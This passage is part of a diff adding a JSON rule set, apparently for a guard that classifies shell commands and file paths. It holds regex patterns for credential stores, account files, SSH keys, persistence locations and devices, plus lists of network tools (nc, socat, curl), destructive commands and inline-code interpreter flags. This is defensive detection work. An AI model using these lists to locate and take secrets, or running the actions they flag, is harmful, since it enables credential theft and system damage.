+\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|at)|^(/usr)?/lib/systemd/|^/run/systemd/|^~/\\\\.config/systemd(/|$)|^~?/library/launch(agents|daemons)(/|$)|^/\
+library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\\\\.d/|^(/usr)?(/lib|/etc)/udev/rules\\\\.d/|^/etc/polkit-1/","home":true},"authorized-keys":{"form":"(^|/)\\\\.ss\
+h/authorized_keys2?$|^/etc/ssh/(sshd_config|authorized_keys)"},"accounts":{"form":"^(/usr/local)?/etc/(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(\
+/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid|pass\\\\S*[*?]\\\\S*)$"},"account-secrets":{"form":"^(/usr/local)?/et\
+c/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?)$|^(/usr/local)?/etc/(?!passwd$)(pam\\\\.d(/.*)?|security/.*|doas\\\\.conf|login\\\\.de\
+fs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(pass\\\\S*[*?]\\\\S*)$|^/usr/local/etc/passwd$"},"device":{"form":"^/dev/((sd|hd|vd|xvd)[a-z*?]+[\\\\d*?]*|nvme\\\\d.*\
+|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/.*)$|^/dev/(loop\\\\d+|nbd\\\\d+|mem|kmem|port|disk/.*|vg\\\\w*/.*)$"},"kernel":{"form":"^/(proc/(sys|sysrq-trigger\
+|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form":"(^|/)(docker|containerd|podman|crio)\\\\.sock$"},"vcs-config":{"form":"^(~/\\\\.gitconfig|~/\\\\.config/git/|/et\
+c/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|backups?|customers?|users|clients|payroll|salar(y|ies)|patients?)([-_./]|$)|(^|[-_./])(employees|database|produ\
+ction[-_]?data|private|confidential|secrets?|prod)([-_./]|$)|\\\\.(sql|sql\\\\.gz|dump|sqlite3?|db|bak|mdb|rdb|pst|mbox|kdbx)$"},"logs":{"form":"^/var/(log|audit)(/\
+|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_repl)_history$|^/run/log"}},"words":{"system_folders":["bin","boot","dev","etc","lib","lib32","lib64","libx32","\
+opt","proc","root","run","sbin","srv","sys","usr","var","system","library","applications","snap","nix","lost+found"],"root_folders":["boot","dev","etc","proc","\
+root","sys","usr"],"personal_folders":["documents","desktop","pictures","downloads","music","videos","movies","photos","library",".config",".local",".mozilla"],\
+"credentials":[".netrc","_netrc",".npmrc",".pypirc",".pgpass",".my.cnf",".mylogin.cnf",".git-credentials",".htpasswd",".dockercfg",".s3cfg",".boto",".vault-toke\
+n",".envrc",".terraformrc",".yarnrc.token","kubeconfig","master.key","wallet.dat","login.keychain-db","key4.db","logins.json","shadow","gshadow","shadow-","gsha\
+dow-","environ","admin.conf","secring.gpg",".bash_history",".zsh_history",".python_history",".psql_history",".mysql_history",".node_repl_history","tnsnames.ora"\
+,".secrets",".secret",".passwd-s3fs","rclone.conf",".credentials"],"disposable":["node_modules","bower_components","jspm_packages","dist","dist-ssr","build","bu\
+ilds","_build","out","output","outputs","target","bin","obj","coverage","htmlcov",".nyc_output",".next",".nuxt",".output",".svelte-kit",".turbo",".cache","cache\
+","caches",".parcel-cache",".vite",".angular",".gradle",".venv","venv","env","virtualenv",".virtualenv","__pycache__",".pytest_cache",".mypy_cache",".ruff_cache\
+",".tox",".nox",".eggs",".hypothesis",".ipynb_checkpoints",".terraform",".serverless",".vercel",".netlify",".docusaurus",".eslintcache",".stylelintcache","stora\
+ge/framework/views","storage/framework/cache",".coverage","coverage.xml","lcov.info","builddir","storybook-static","public/build","public/packs","vendor","vendo\
+r/bundle","tmp","temp",".tmp",".temp","logs","log","generated","gen",".generated","__generated__","artifacts","artifact","reports","report","test-results","test\
+-reports","test-output","test_output","playwright-report","allure-results","allure-report","junit.xml","deps",".bundle","cmake-build-debug","cmake-build-release\
+","cmakefiles","cmakecache.txt","debug","release",".stack-work","dist-newstyle",".dart_tool","deriveddata","pods",".build",".swiftpm","elm-stuff","zig-out","zig\
+-cache","nimcache",".zig-cache","scratch",".scratch","_site",".jekyll-cache",".sass-cache","bench-results",".pnpm-store","package-lock.json","yarn.lock","pnpm-l\
+ock.yaml","poetry.lock",".ds_store","thumbs.db","nohup.out","a.out","lib-cov","typings","wheelhouse",".aws-sam","cdk.out",".elixir_ls",".lexical",".metals",".bl\
+oop",".bsp",".ccls-cache",".scannerwork",".snakemake",".cxx","bazel-out","bazel-bin","bazel-testlogs",".astro",".externalnativebuild",".expo",".vuepress",".docu\
+saurus",".vinxi",".nitro",".wxt",".yarn/cache",".rpt2_cache",".fusebox",".dynamodb",".nx","lerna-debug.log",".phpunit.result.cache",".phpunit.cache",".direnv","\
+mlruns","wandb","lightning_logs","runs","checkpoints/tmp","snapshots","__snapshots__","__image_snapshots__","screenshots"],"project_outputs":["resources/_gen","\
+stage","pkgroot","rootfs","appdir",".vs","xcuserdata",".libs",".firebase",".apt_generated","web_modules","vcpkg_installed","develop-eggs","bin-debug","bin-relea\
+se","sdist","out-tsc","opencover","paket-files","meson-logs","nbbuild","nbdist","nimblecache","msbuild_logs","htmldocs","gwt-unitcache","codecoverage","cover_db\
+","cython_debug","ipch","lib_managed","src_managed","project/boot","project/target","blib","build_isolated","devel_isolated","benchmarkdotnet.artifacts","test-r\
+eport","tests_output","_yardoc","__pypackages__","__marimo__","__macosx",".yardoc",".virtual_documents",".pytype",".pyre",".pybuilder",".pub",".pdm-build",".moo\
+ncakes",".ng",".nb-gradle",".lein-plugins",".lake",".kitchen",".ionide",".htf",".godot",".import",".expo-shared",".ensime_cache",".eask",".cpcache",".cdk.stagin\
+g",".buildlog",".artifacts",".ansible",".ammonite",".rts2_cache_cjs",".rts2_cache_es",".rts2_cache_umd",".symlinks","blob-report","tfplan","tfplan.binary","tfpl\
+an.out","_autosummary","latex.out","slprj",".stryker-tmp",".swc",".wrangler",".sst",".open-next",".contentlayer",".lighthouseci",".jest-cache",".rollup.cache","\
+.kotlin",".scala-build","intermediate","deriveddatacache","library/bee","library/scriptassemblies","library/packagecache","library/artifacts","library/shadercac\
+he","flutter/ephemeral","flutter/flutter.podspec","saved/shaderdebuginfo","saved/logs","saved/autosaves","binaries","pm_to_blib","mymeta.yml","mymeta.json","mut\
+ants","mutants.out",".pnp.cjs",".pnp.js",".pnp.loader.mjs","_deps","buck-out","plz-out",".pants.d","testresults","apppackages","bundleartifacts","renv/library",\
+"renv/staging","packrat/lib","packrat/src",".rproj.user",".quarto","cypress/videos","cypress/screenshots","typechain","typechain-types","test-ledger",".anchor",\
+".dfx","cov_profile",".grunt","lua_modules",".spago","carthage/build","carthage/checkouts","fastlane/report.xml","_opam","_esy",".hpc","catboost_info","mlartifa\
+cts","erl_crash.dump","rebar3.crashdump",".rspec_status",".fetch","_rel",".eunit",".xmake",".jqwik-database",".sonar",".sonarlint",".stestr",".testrepository","\
+.benchmarks",".webassets-cache","lib-commonjs",".quasar",".tanstack",".react-router","captures","texput.log",".texpadtmp","_book"],"source_folders":["src","sour\
+ce","sources","lib","libs","app","apps","test","tests","spec","specs","__tests__","e2e","integration","doc","docs","documentation","packages","modules","module"\
+,"components","pages","routes","server","client","clients","api","backend","frontend","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts"\
+,"config","configs","configuration","settings","public","static","assets","images","img","media","data","dataset","datasets","db","database","databases","migrat\
+ions","models","model","views","controllers","services","service","utils","util","helpers","common","shared","include","bin","tool","tools","examples","samples"\
+,"templates","styles","css","resources","i18n","locale","locales","fixtures","plugins","plugin","extensions","themes","infra","infrastructure","terraform","depl\
+oy","deployment","k8s","kubernetes","charts","helm","ansible","docker","ci",".github",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","con\
+tracts","proto","protos","schema","schemas","android","ios","macos","windows","linux","functions","lambdas","middleware","hooks","stores","types","interfaces","\
+main","java","kotlin","resources","benches","benchmarks","bench","vendor","third_party","native","engine","kernel","drivers","firmware","game","content","posts"\
+,"blog","articles","book","wiki"],"source_endings":["ts","tsx","js","jsx","mjs","cjs","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc\
+","cpp","h","hpp","swift","scala","ex","exs","erl","clj","lua","dart","vue","svelte","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats",\
+"proto","graphql","tf","feature","png","svg"],"file_endings":["ts","tsx","js","jsx","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","g\
+o","rs","c","h","cc","cpp","hpp","java","kt","kts","swift","php","sh","yml","yaml","toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini\
+","cfg","conf","csv","tf","proto","ex","exs","scala","cs","lua","ipynb","snap","svg","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnu\
+makefile","justfile","dockerfile","gemfile","rakefile","procfile","version","license","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.p\
+assword-store|\\\\.oci|\\\\.aliyun|\\\\.kube/config|\\\\.kube/cache|\\\\.docker/config\\\\.json|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone\
+|\\\\.config/op|\\\\.config/sops|\\\\.config/glab-cli|\\\\.config/hcloud|\\\\.config/scw|\\\\.config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netli\
+fy/config\\\\.json|\\\\.config/configstore|\\\\.heroku/netrc|\\\\.config/stripe|\\\\.config/ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\
+\\\\.filezilla|\\\\.config/composer/auth\\\\.json|\\\\.composer/auth\\\\.json|\\\\.config/pip/pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.con\
+fig/vercel|com\\\\.vercel\\\\.cli/auth\\\\.json|\\\\.supabase/access-token|\\\\.pulumi/credentials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.t\
+wilio-cli|\\\\.auth0|\\\\.lpass|\\\\.jira\\\\.d|\\\\.mc/config\\\\.json|\\\\.rancher/cli2\\\\.json|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowfla\
+ke|\\\\.databrickscfg|\\\\.kaggle/kaggle\\\\.json|\\\\.huggingface/token|\\\\.cache/huggingface/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth\
+_creds\\\\.json|\\\\.cargo/credentials[^/]*|\\\\.gem/credentials|\\\\.terraform\\\\.d/credentials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\
+\\\\.properties|\\\\.local/share/keyrings|\\\\.local/share/kwalletd|library/keychains|\\\\.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/\
+profile[^/]*|chrome/default|chrome/profile[^/]*|chromium/default|chromium/profile[^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xm\
+l|google-chrome[^/]*/[^/]*/cookies|chromium/[^/]*/cookies|brave-browser/[^/]*/cookies|microsoft-edge[^/]*/[^/]*/cookies|\\\\.cache/msal[^/]*|\\\\.subversion/auth|\\\\\
+.ethereum/keystore|\\\\.bitcoin|\\\\.electrum|\\\\.vnc/passwd|\\\\.rediscli_auth|\\\\.wpa_supplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes\
+/admin\\\\.conf|etc/kubernetes/pki|etc/krb5\\\\.keytab|etc/wpa_supplicant|etc/networkmanager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/le\
+tsencrypt/archive|var/lib/sss/db|tmp/krb5cc_[^/]*|etc/master\\\\.passwd|etc/security/opasswd","credential_samples":[".env",".env.local",".env.production","credent\
+ials","credentials.json","secrets.yml","id_rsa","id_ed25519",".netrc",".npmrc",".pypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers"\
+:["curl","wget","aria2c","http","https","xh","fetch","axel","wget2","Invoke-WebRequest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","ho\
+st","drill","kdig","nc","ncat","netcat","socat","telnet","lynx","w3m","links","elinks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers"\
+:["cp","mv","ln","install"],"killers":["pkill","killall","skill","slay","taskkill","Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read",\
+"mapfile","readarray","dd","split","cp","install"],"root_wrappers":["sudo","doas","su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash",\
+"dash","ksh","zsh","ash","fish","python","perl","ruby","node","php","source",".","lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init\
+","poweroff","reboot","scrub","sg","shutdown","telinit","transfer","wipe"],"tree_commands":["reset","clean","checkout","switch","restore","rm","apply","merge","\
+rebase","cherry-pick","revert","am"],"closed_options":["rm","i","t","d","interactive","tty","detach","init","read-only","pull","platform","network","net","e","e\
+nv","w","workdir","u","user","name","p","publish","m","memory","cpus","read-only","cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","sh\
+m-size","tmpfs","q","quiet"],"body_options":["d","data","data-ascii","data-binary","data-raw","data-urlencode","json","post-data","body-data"],"package_verbs":[\
+"access","add","approve-builds","audit","autoclean","bin","cache","cat-file","cat-index","check","ci","completion","config","constraints","create","dedupe","dep\
+loy","dlx","doctor","env","exec","explain","fetch","find-hash","foreach","generate-lock-entry","global","help","i","ignored-builds","import","info","init","inst\
+all","install-test","it","licenses","link","list","ln","login","logout","ls","m","multi","npm","outdated","owner","pack","patch","patch-commit","patch-remove","\
+plugin","policies","profile","prune","publish","rb","rebuild","recursive","remove","rm","root","run","run-script","search","self-update","selfupdate","server","\
+set","setup","stage","start","stop","store","tag","team","test","t","un","uninstall","unlink","unplug","up","update","upgrade","upgrade-interactive","version","\
+versions","view","whoami","why","with","workspace","workspaces"],"silent":["[","test","true","false",":","rm","mkdir","touch","chmod","chown","kill","sleep","wa\
+it","exit","return","cp","mv","ln"],"risky":["rm","rmdir","unlink","shred","srm","wipe","dd","mkfs","mkfs.ext4","mkfs.xfs","mkfs.btrfs","mkswap","wipefs","fdisk\
+","sfdisk","parted","blkdiscard","truncate","mv","cp","chmod","chown","chgrp","chattr","setfacl","ln","tee","cat","curl","wget","nc","ncat","socat","scp","rsync\
+","sftp","ftp","ssh","git","find","xargs","sh","bash","dash","zsh","ksh","sudo","su","doas","env","eval","python","python3","perl","ruby","node","php","kill","k\
+illall","pkill","shutdown","reboot","halt","poweroff","init","systemctl","service","crontab","at","useradd","userdel","usermod","passwd","visudo","iptables","nf\
+t","ufw","mount","umount","docker","kubectl","helm","terraform","aws","gcloud","az","psql","mysql","dropdb","base64","gpg","openssl","rimraf","trash","insmod","\
+modprobe","sysctl"],"non_runners":["echo","printf","cat","less","more","head","tail","grep","egrep","fgrep","rg","ag","ack","sed","awk","cut","sort","uniq","wc"\
+,"tr","diff","cmp","comm","patch","ls","ll","tree","stat","file","touch","mkdir","rmdir","rm","cp","mv","ln","chmod","chown","chgrp","which","whereis","type","w\
+hatis","man","info","help","apropos","tldr","hash","test","[","[[","true","false",":","cd","pwd","pushd","popd","dirs","exit","return","break","continue","expor\
+t","unset","set","shift","read","local","declare","alias","unalias","git","hg","svn","gh","glab","npm","pnpm","yarn","bun","pip","pip3","pipx","poetry","cargo",\
+"rustc","rustup","go","gem","bundle","composer","mvn","gradle","make","cmake","ninja","bazel","apt","apt-get","aptitude","dpkg","dnf","yum","rpm","pacman","apk"\
+,"brew","snap","flatpak","zypper","emerge","port","nix","docker","podman","kubectl","helm","terraform","aws","gcloud","az","curl","wget","http","https","nc","nc\
+at","ssh","scp","sftp","rsync","ftp","tar","zip","unzip","gzip","gunzip","bzip2","xz","7z","ar","cpio","jest","mocha","vitest","pytest","tsc","eslint","biome","\
+prettier","vim","vi","nvim","nano","emacs","code","ed","ex","jq","yq","xmllint","python","python2","python3","node","deno","ruby","perl","php","java","javac","g\
+cc","g++","clang","lua","Rscript","date","cal","uptime","uname","hostname","whoami","id","groups","who","w","ps","top","htop","kill","killall","pkill","pgrep","\
+jobs","fg","bg","wait","sleep","seq","yes","basename","dirname","realpath","readlink","mktemp","tee","cksum","md5sum","sha1sum","sha256sum","base64","base32","x\
+xd","od","hexdump","strings","column","fold","fmt","nl","paste","join","split","expand","rev","tac","shuf","gpg","openssl","ssh-keygen","ssh-add","systemctl","s\
+ervice","journalctl","dmesg","mount","umount","df","du","free","lsof","ss","netstat","ip","ifconfig","ping","dig","nslookup","host","traceroute","useradd","user\
+del","usermod","passwd","crontab","dd","mkfs","truncate","shred","notify-send","say","logger","write","wall","mail","psql","mysql","sqlite3","redis-cli","mongos\
+h","sh","bash","dash","zsh","ksh","eval","source",".","trap","fork-bomb","compgen","complete","getent","locate","updatedb","apt-cache","apt-file","command","bui\
+ltin","fzf","bat","exa","eza","fd","dropdb","createdb","shellcheck","shfmt","checkbashisms","hadolint"],"filters":["awk","gawk","mawk","yq","fold","fmt","nl","c\
+olumn","paste","join","expand","unexpand","iconv","basenc","uudecode","uuencode","qprint","openssl","gunzip","zcat","bzcat","xzcat","gzip","bzip2","bunzip2","xz\
+","unxz","zstd","unzstd","lz4","m4","cpp","envsubst","recode","rot13","pr","csplit","od","hexdump","hd","ul","colrm","col","ascii2uni","uni2ascii","perl","ruby"\
+,"pv","mbuffer","bc","dc","shuf","look","comm","tsort","ptx","nkf","cut","base32"]},"interpreters":{"python":{"short":"cmWXQ","long":["check-hash-based-pycs"],"\
+language":"python","code":["c"],"module":["m"]},"ipython":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ip\
+ython3":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"node":{"short":"eprC","long":["eval","print","requir\
+e","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-\
+warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-repo\
+rter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check","no-prompt"\
+]},"nodejs":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","inpu\
+t-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandl\
+ed-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":\
+["e","p","eval","print"],"checks":["c","check","no-prompt"]},"bun":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","con\
+ditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","repo\
+rt-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","p\
+reload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check","no-prompt"]},"tsx":{"short":"eprC","long":["eval","print"\
+,"require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","r\
+edirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","t\
+est-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check","no\
+-prompt"]},"ts-node":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","conf\
+ig","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit"\
+,"unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript\
+","code":["e","p","eval","print"],"checks":["c","check","no-prompt"]},"deno":{"short":"eprC","long":["eval","print","require","import","loader","experimental-lo\
+ader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-direct\
+ory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","ts\
+config","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check","no-prompt"]},"zx":{"short":"eprC","long":["eval\
+","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-c\
+onfig","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pa\
+ttern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","c\
+heck","no-prompt"]},"perl":{"short":"eEIMm","language":"perl","code":["e","E"],"checks":["c","MO=Deparse","MO=Concise","MO=Terse"]},"ruby":{"short":"eIrEC","lon\
+g":["encoding","external-encoding","internal-encoding","enable","disable","dump","parser"],"language":"ruby","code":["e"],"checks":["c"]},"rake":{"short":"feER"\
+,"long":["rakefile","execute"],"permuted":true,"language":"ruby","code":["e","execute"],"files":["f","rakefile"],"operands":"no code","usual":["Rakefile","rakef\
+ile","Rakefile.rb"]},"php":{"short":"rBREFfdczS","long":["run","file","process-begin","process-code","process-end","process-file","define","php-ini","server","d\
+ocroot"],"language":"php","code":["r","run","B","R","E","process-begin","process-code","process-end"],"files":["f","F","file"],"checks":["l"]},"awk":{"short":"f\
+FvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"oper\
+ands":"code"},"gawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"file\
+s":["f","file","E","exec"],"operands":"code"},"mawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"\
+awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"nawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","incl\
+ude","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"psql":{"short":"cdfhpUvLoPRTF","long":["command",\
+"host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"opera\
+nds":"no code"},"mysql":{"short":"ehPuDS","long":["execute","init-command","host","port","user","username","dbname","database","file","set","variable"],"permute\
+d":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"mariadb":{"short":"ehPuDS","long":["execute","init-command","host","port",\
+"user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"sql\
+ite3":{"long":["cmd","init","separator","newline","nullvalue"],"permuted":true,"language":"sql","code":["cmd"],"files":["init"],"operands":"database then code"}\
+,"sqlite":{"permuted":true,"language":"sql","operands":"database then code"},"duckdb":{"short":"cs","long":["cmd","host","port","user","username","dbname","data\
+base","file","set","variable"],"permuted":true,"language":"sql","code":["c","s","cmd"],"operands":"database then code"},"influx":{"long":["execute","host","port\
+","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["execute"],"operands":"no code"},"snowsql":{"short":"q\
+f","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"files":["\
+f"],"operands":"no code"},"bq":{"long":["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands"\
+:"database then code"},"sqlcmd":{"short":"QqSUPdi","long":["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"languag\
+e":"sql","code":["Q","q"],"files":["i"],"operands":"no code"},"clickhouse":{"short":"qhud","long":["query","host","port","user","password","database"],"permuted\
+":true,"language":"sql","code":["q","query"],"operands":"database then code"},"clickhouse-client":{"short":"qhud","long":["query","host","port","user","username\
+","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"operands":"no code"},"cockroach":{"short":"eu","long":["ex\
+ecute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"\
+},"cqlsh":{"short":"efukp","long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code\
+":["e","execute"],"files":["f"],"operands":"no code"},"sqlplus":{"long":["host","port","user","username","dbname","database","file","set","variable"],"permuted"\
+:true,"language":"sql","operands":"no code"},"mongo":{"short":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permute\
+d":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},"mongosh":{"short":"fup","long":["eval","host","port","us\
+ername","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files\
+"},"redis-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"valkey-cli":{"short":"hpsanurt","long":["eval"],"langua\
+ge":"sql","files":["eval"],"operands":"code"},"keydb-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"cypher-shell\
+":{"short":"aupdf","long":["address","username","password","database","file"],"permuted":true,"language":"sql","files":["f","file"],"operands":"code"},"rman":{"\
+language":"sql","operands":"no code"},"trino":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":\
+["execute"],"files":["f","file"],"operands":"no code"},"presto":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"langu\
+age":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto-cli":{"short":"f","long":["server","catalog","schema","user","execute","file"],\
+"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"hive":{"short":"efunpid","long":["database","hiveconf","hivevar"\
+,"master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"beeline":{"short":"efunpid","long":["database","hiveconf","\
+hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"spark-sql":{"short":"efunpid","long":["database","h\
+iveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"impala-shell":{"short":"qifdu","long":["q\
+uery","query_file","impalad","database"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","query_file"],"operands":"no code"},"ysqlsh":{"short\
+":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands"\
+:"no code"},"vsql":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"file\
+s":["f","file"],"operands":"no code"},"pgcli":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","\
+code":["c","command"],"files":["f","file"],"operands":"no code"},"mycli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"l\
+anguage":"sql","code":["e","execute"],"operands":"no code"},"litecli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"lang\
+uage":"sql","code":["e","execute"],"operands":"no code"},"usql":{"short":"cfv","long":["command","file"],"permuted":true,"language":"sql","code":["c","command"]\
+,"files":["f","file"],"operands":"no code"},"snow":{"short":"qfc","long":["query","filename","connection"],"permuted":true,"language":"sql","code":["q","query"]\
+,"files":["f","filename"],"operands":"no code"}},"consoles":{"rails":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"ruby",\
+"operands":"code"},"spring":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"manage.py":{"short":"\
+c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"django-admin":{"short":"c","long":["command","inte\
+rface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"flask":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"od\
+oo-bin":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"superset":{"\
+short":"cd","after":["shell"],"language":"python","code":["c"]},"scrapy":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"artisan":{"long":["e\
+xecute"],"after":["tinker"],"language":"php","code":["execute"]},"drush":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"cod\
+e"},"drush.phar":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"code"},"n98-magerun2":{"after":["dev:console"],"language":"\
+php","operands":"code"},"n98-magerun2.phar":{"after":["dev:console"],"language":"php","operands":"code"},"magerun2":{"after":["dev:console"],"language":"php","o\
+perands":"code"},"wp":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-c\
+li.phar":{"after":["eval","shell"],"language":"php","operands":"code"}},"wrappers":{"sudo":{"short":"ugpCDRTrthU","long":["user","group","prompt","chdir","chroo\
+t","role","type","host","other-user","close-from","command-timeout"],"assigns":true,"folder":["D","chdir"]},"doas":{"short":"uC","assigns":true},"exec":{"short"\
